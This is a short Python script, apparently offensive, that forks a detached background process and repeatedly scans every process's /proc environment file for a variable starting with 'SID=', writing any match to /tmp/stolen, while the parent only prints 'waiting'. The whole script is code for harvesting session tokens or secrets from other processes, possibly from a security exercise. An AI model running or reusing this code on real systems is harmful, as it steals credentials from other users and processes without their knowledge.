import os, time
if os.fork() == 0:
    os.setsid()
    for _ in range(200):
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                for word in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
                    if word.startswith(b"SID="):
                        open("/tmp/stolen", "wb").write(word)
            except OSError:
                pass
        time.sleep(0.01)
    os._exit(0)
print("waiting")
